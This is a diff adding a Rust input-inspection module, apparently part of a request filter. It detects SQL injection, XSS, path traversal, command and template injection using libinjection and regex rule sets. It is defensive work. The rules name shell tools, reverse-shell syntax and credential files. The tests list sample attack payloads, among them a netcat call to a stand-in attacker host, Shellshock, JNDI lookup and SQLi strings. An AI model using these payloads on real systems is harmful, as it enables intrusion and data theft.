@@ -1,0 +1,262 @@
+//! What a decoded value is checked for: libinjection's SQL injection and XSS algorithms
+//! (`libinjectionrs`, pinned) and hand-written rules for what they miss. Rules run on the
+//! lower-cased, whitespace-collapsed value; values made only of word characters and a few safe
+//! punctuation marks (ids, dates, JWTs, base64url) skip everything.
+
+use std::sync::LazyLock;
+
+use regex::bytes::{Regex, RegexSet};
+
+use super::Rule;
+
+/// Characters that cannot form any payload alone.
+fn is_plain(v: &[u8]) -> bool {
+    v.iter().all(|b| {
+        b.is_ascii_alphanumeric()
+            || matches!(
+                b,
+                b' ' | b'-' | b'_' | b'.' | b',' | b'@' | b':' | b'!' | b'?'
+            )
+    })
+}
+
+static SQL: LazyLock<RegexSet> = LazyLock::new(|| {
+    RegexSet::new([
+        r"\bunion\b[\s(]+(all\s+|distinct\s+)?[\s(]*select\b",
+        r"\bselect\b.{1,200}?\bfrom\b.{1,200}?\b(where|information_schema|limit|union|order\s+by|group\s+by)\b",
+        r"\b(sleep|pg_sleep|benchmark|waitfor\s+delay|dbms_pipe\.receive_message|randomblob)\s*\(",
+        r";\s*(drop|delete|insert|update|alter|create|truncate|exec|execute|declare|shutdown)\s+\w",
+        r#"['"`]\s*(or|and|xor|\|\||&&)\s*['"]?\s*[\w'"]+\s*(=|<|>|like|is\b)"#,
+        r#"['"`]\s*(or|and)\s+\d+\s*[=<>]"#,
+        r"\b(or|and)\s+\d+\s*=\s*\d+",
+        r"\binformation_schema\b|\bsysobjects\b|\bpg_catalog\b|\bsqlite_master\b|\bmysql\.user\b",
+        r"@@(version|datadir|hostname)\b",
+        r"\b(load_file|into\s+(out|dump)file|xp_cmdshell|sp_executesql|utl_http|dbms_\w+)\b",
+        r#"['"`)]\s*;\s*--"#,
+        r"\b(extractvalue|updatexml|convert|cast)\s*\(.{0,80}(select|version|user|database)\b",
+        r#"\border\s+by\s+\d+\s*(--|#|/\*)"#,
+        r"\bhaving\s+\d+\s*=\s*\d+",
+        r#"['"]\s*(;|\|\||\+)?\s*(select|insert|update|delete|drop)\b"#,
+    ])
+    .expect("valid SQL rules")
+});
+
+static COPY_PROGRAM: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\bcopy\b.{0,200}?\b(to|from)\s+program\b").expect("valid rule"));
+
+static XSS: LazyLock<RegexSet> = LazyLock::new(|| {
+    RegexSet::new([
+        r"<\s*/?\s*(script|iframe|frame|object|embed|applet|svg|math|meta|base|link|style|form|isindex|xss|marquee|body|img|image|video|audio|source|input|details|template|textarea|select|button)\b",
+        r#"[\s"'/;`]on[a-z]{3,20}\s*="#,
+        r"\bon(error|load|mouseover|mouseenter|focus|blur|click|toggle|pointer\w+|animation\w+|begin|start)\s*=",
+        r"\b(document\.(cookie|domain|location|write)|window\.location|\.innerhtml\s*=|eval\s*\(|fromcharcode|settimeout\s*\(|setinterval\s*\()",
+        r"\bexpression\s*\(|-moz-binding|\bstyle\s*=.{0,50}url\s*\(",
+        r"<\s*[a-z]+[^>]*\s(src|href|action|formaction|data)\s*=\s*['\x22]?\s*(javascript|vbscript|data):",
+        r"\b(alert|prompt|confirm)\s*(\(|`)[^)]{0,40}(\)|`)",
+        r"<!\[cdata\[|<!--.*?-->.*<",
+    ])
+    .expect("valid XSS rules")
+});
+
+static JS_URL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(^|[\s'=(\x22])(javascript|vbscript|livescript)\s*:|\bdata\s*:\s*(text/html|application/(x-)?javascript|image/svg\+xml)").expect("valid rule")
+});
+
+static TRAVERSAL: LazyLock<RegexSet> = LazyLock::new(|| {
+    RegexSet::new([
+        r"(^|[/\\])\.\.+[/\\]",
+        r"[/\\]\.\.+([/\\]|$)",
+        r"(^|[/\\:])(etc|usr|proc|var|root|home|bin|boot|dev|sys)/[\w.-]+",
+        r"/etc/(passwd|shadow|hosts|group|issue|sudoers|crontab|motd|fstab)\b",
+        r"/proc/(self|\d+)/(environ|cmdline|fd|maps|status|mem)",
+        r"\b(c|d):\\\\?(windows|winnt|boot\.ini|inetpub|users)",
+        r"\b(boot|win|system)\.ini\b|\bweb\.config\b|\.htaccess\b|\.htpasswd\b|(^|/)\.env\b|\.git/(config|head)\b|id_rsa\b",
+        r"^(file|php|phar|zip|expect|glob|jar|netdoc|gopher|dict)://",
+    ])
+    .expect("valid traversal rules")
+});
+
+const COMMANDS: &str = r"(cat|tac|more|less|head|tail|ls|dir|id|whoami|uname|hostname|ifconfig|ipconfig|netstat|ps|wget|curl|fetch|nc|ncat|netcat|telnet|ssh|bash|sh|zsh|ksh|csh|dash|python\d?|perl|ruby|php|node|lua|ping|nslookup|dig|rm|chmod|chown|mkfifo|mknod|echo|printf|env|set|powershell|pwsh|cmd|certutil|bitsadmin|reg|net|sleep|kill|crontab|base64|xxd|find|grep|awk|sed|touch|cp|mv|tftp|ftp|sudo|su|nohup|timeout|eval|exec|systeminfo|tasklist|type|copy|del|start|wmic|cscript|wscript|rundll32|regsvr32|mshta|getent|which|whereis|locate|uptime|w|who|last|passwd|useradd)";
+
+static COMMAND: LazyLock<RegexSet> = LazyLock::new(|| {
+    RegexSet::new([
+        format!(r"(^|[;&|`\n\r(]|\$\(|\|\||&&)\s*{COMMANDS}(\s|$|[;&|<>`)'\x22]|\.exe)"),
+        format!(r"\$\(\s*{COMMANDS}\b"),
+        format!(r"`\s*{COMMANDS}\b[^`]*`"),
+        r"\$\{ifs\}|\$ifs\b|\{[a-z]+,[^}]*\}".to_string(),
+        r"/(usr/)?(s?bin)/\w+".to_string(),
+        r"\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;".to_string(),
+        r"\b(nc|ncat|netcat)\s+(-\w+\s+)*[\w.]+\s+\d+".to_string(),
+        r"\b(bash|sh)\s+-[ic]\b|>\s*&\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/".to_string(),
+        r"\bcmd(\.exe)?\s+/[ck]\b|\bpowershell(\.exe)?\s+(-|/)\w+".to_string(),
+        r"\b(wget|curl)\s+(-\w+\s+)*https?://".to_string(),
+        r"[;&|]\s*\w+\s*=\s*\$\(".to_string(),
+    ])
+    .expect("valid command rules")
+});
+
+static TEMPLATE: LazyLock<RegexSet> = LazyLock::new(|| {
+    RegexSet::new([
+        r"\{\{[^}]{0,80}(\d\s*[*+/-]\s*\d|__\w+__|\bconfig\b|\bself\b|\brequest\b|\blipsum\b|\bcycler\b|\bjoiner\b|\bnamespace\b|\|attr|\.mro\b|\bclass\b|constructor|\[\s*['\x22])[^}]{0,120}\}\}",
+        r"\$\{[^}]{0,120}(jndi:|\bt\s*\(|java\.|getruntime|\bexec\s*\(|\d\s*[*+]\s*\d|::|env:|sys:|lower:|upper:|script:|class\.|\.forname)",
+        r"#\{[^}]{0,120}(\d\s*[*+]\s*\d|t\s*\(|java\.|getruntime|exec)",
+        r"<%=?[^%]{0,120}(\d\s*[*+]\s*\d|runtime|exec|system|eval|request|response)[^%]{0,120}%>",
+        r"\{%[^%]{0,120}(import|include|exec|system|popen|for\s+\w+\s+in)[^%]{0,120}%\}",
+        r"\*\{[^}]{0,80}(t\s*\(|java\.|getruntime)",
+        r"\$\{\{|\{\{\s*['\x22]?\s*\d+\s*['\x22]?\s*[*+]",
+    ])
+    .expect("valid template rules")
+});
+
+static PROTOCOL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"[\r\n]\s*[\w-]{2,40}\s*:|[\r\n]\s*(get|post|put|delete|head|options)\s+/|\bhttp/1\.[01]\s*[\r\n]").expect("valid rule")
+});
+
+/// Lower-cased with runs of whitespace (and SQL comments between words) collapsed, so
+/// `UNION/**/SELECT` and `union   select` look alike.
+fn fold(v: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(v.len());
+    let mut i = 0;
+    let mut space = false;
+    while i < v.len() {
+        let b = v[i];
+        if b == b'/' && v.get(i + 1) == Some(&b'*') {
+            // A comment: skip to its end (MySQL's `/*!...*/` keeps its content).
+            if v.get(i + 2) == Some(&b'!') {
+                i += 3;
+                while i < v.len() && v[i].is_ascii_digit() {
+                    i += 1;
+                }
+                continue;
+            }
+            let end = v[i + 2..]
+                .windows(2)
+                .position(|w| w == b"*/")
+                .map_or(v.len(), |p| i + 2 + p + 2);
+            i = end;
+            if !space {
+                out.push(b' ');
+                space = true;
+            }
+            continue;
+        }
+        if b.is_ascii_whitespace() && b != b'\r' && b != b'\n' {
+            if !space {
+                out.push(b' ');
+                space = true;
+            }
+        } else {
+            out.push(b.to_ascii_lowercase());
+            space = false;
+        }
+        i += 1;
+    }
+    out
+}
+
+/// Which rules a value breaks, in order of precedence, each at most once.
+pub fn check(value: &[u8], header_like: bool, out: &mut Vec<Rule>) {
+    out.clear();
+    if value.len() < 2 || is_plain(value) {
+        // Plain words can still spell a SQL statement: only these rules can match them.
+        if value.len() >= 12 {
+            let f = fold(value);
+            if SQL.is_match(&f) {
+                out.push(Rule::Sqli);
+            }
+        }
+        return;
+    }
+    let f = fold(value);
+    if !header_like && PROTOCOL.is_match(&f) {
+        out.push(Rule::ProtocolAttack);
+    }
+    if COPY_PROGRAM.is_match(&f) {
+        out.push(Rule::SqlCopyProgram);
+    }
+    if libinjectionrs::detect_sqli(value).is_injection() || SQL.is_match(&f) {
+        out.push(Rule::Sqli);
+    }
+    if JS_URL.is_match(&f) {
+        out.push(Rule::JavascriptUrl);
+    }
+    if (f.contains(&b'<') || f.contains(&b'=') || f.contains(&b'(') || f.contains(&b'`'))
+        && (XSS.is_match(&f)
+            || (f.contains(&b'<') && libinjectionrs::detect_xss(value).is_injection()))
+    {
+        out.push(Rule::Xss);
+    }
+    if TRAVERSAL.is_match(&f) {
+        out.push(Rule::PathTraversal);
+    }
+    if COMMAND.is_match(&f) {
+        out.push(Rule::CommandInjection);
+    }
+    if TEMPLATE.is_match(&f) {
+        out.push(Rule::TemplateInjection);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(v: &str) -> Vec<Rule> {
+        let mut out = Vec::new();
+        check(v.as_bytes(), false, &mut out);
+        out
+    }
+
+    #[test]
+    fn attacks_are_recognised() {
+        for (v, rule) in [
+            ("1' OR '1'='1", Rule::Sqli),
+            ("1 UNION/**/SELECT password FROM users", Rule::Sqli),
+            ("1; DROP TABLE users", Rule::Sqli),
+            ("1 and sleep(5)", Rule::Sqli),
+            ("<script>alert(1)</script>", Rule::Xss),
+            ("<img src=x onerror=alert(1)>", Rule::Xss),
+            ("\"><svg/onload=prompt(1)>", Rule::Xss),
+            ("javascript:alert(document.cookie)", Rule::JavascriptUrl),
+            ("../../../etc/passwd", Rule::PathTraversal),
+            ("..\\..\\windows\\win.ini", Rule::PathTraversal),
+            ("1;cat /etc/shadow", Rule::CommandInjection),
+            ("$(whoami)", Rule::CommandInjection),
+            ("`id`", Rule::CommandInjection),
+            ("x | nc attacker.example 4444", Rule::CommandInjection),
+            ("() { :; }; /bin/bash -c id", Rule::CommandInjection),
+            ("{{7*7}}", Rule::TemplateInjection),
+            ("${jndi:ldap://x.example/a}", Rule::TemplateInjection),
+            ("{{''.__class__.__mro__}}", Rule::TemplateInjection),
+            ("COPY t TO PROGRAM 'curl evil'", Rule::SqlCopyProgram),
+        ] {
+            assert!(rules(v).contains(&rule), "{v:?}: {:?}", rules(v));
+        }
+    }
+
+    #[test]
+    fn ordinary_text_passes() {
+        for v in [
+            "O'Brien",
+            "D'Angelo & Sons",
+            "Select a union rep, then drop by -- it's fun!",
+            "Use 1 or 2 more steps; 50% off (or more) -- see the FAQ.",
+            "# Week 1\n\n**Bold** _and_ [a link](https://example.com/a?b=c&d=e)\n\n```\nlet x = 1;\n```",
+            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+            "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1LTEifQ.c2lnbmF0dXJl",
+            "2026-11-24T10:00:00Z",
+            "jane.doe@example.com",
+            "https://app.example.com/missions?tab=active&sort=-points",
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+            "I'll select the best option from the list and drop the rest.",
+            "Tom & Jerry's cat, who's 3 years old",
+            "The price is 5 < 10 and 10 > 5",
+            "Let's meet at 5pm; bring the slides & notes",
+            "He said \"hello\" and left",
+            "50% of users (or fewer) completed it",
+        ] {
+            assert!(rules(v).is_empty(), "{v:?}: {:?}", rules(v));
+        }
+    }
+}
